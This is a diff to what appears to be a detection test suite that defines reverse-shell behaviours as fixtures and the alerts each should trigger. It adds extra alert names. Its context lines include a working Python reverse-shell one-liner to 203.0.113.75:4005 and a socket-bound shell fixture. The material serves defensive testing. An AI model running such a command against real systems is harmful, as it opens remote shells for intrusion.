@@ -13,13 +13,13 @@ def shown(name: str, *arguments: str) -> Process:
     return Process(f"/usr/lib/shown/{name}", arguments)
 
 
-def command_line(name: str, technique: str, does: str, mark: str, arguments: tuple[str, ...]) -> Behaviour:
+def command_line(name: str, technique: str, does: str, mark: str, arguments: tuple[str, ...], *more: str) -> Behaviour:
     return Behaviour(
         name=f"reverse_shell_by_{name}",
         techniques=(technique, "T1095"),
         does=does,
         marks=(mark,),
-        raises=("process_reverse_shell_command_line",),
+        raises=("process_reverse_shell_command_line", *more),
         processes=(shown(name, *arguments),),
     )
 
@@ -63,6 +63,7 @@ BEHAVIOURS = (
             "-c",
             "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.75',4005));os.dup2(s.fileno(),0);pty.spawn('sh')",
         ),
+        "process_terminal_made_for_shell",
     ),
     command_line(
         "perl",
@@ -97,7 +98,7 @@ BEHAVIOURS = (
         techniques=("T1059.004", "T1095"),
         does="A shell has a connection to a distant machine as input and output.",
         marks=("11.22.33.72", "sh -s shell-over-socket"),
-        raises=("process_shell_network_descriptors", "socket_shell_connection"),
+        raises=("process_shell_network_descriptors", "socket_shell_connection", "process_shell_holds_connection"),
         shell="ip addr add 11.22.33.72/32 dev lo",
         processes=(
             Process("/usr/lib/shown/far-side-72", ("/usr/lib/shown/far-side-72",), ("serve 11.22.33.72:4444",)),
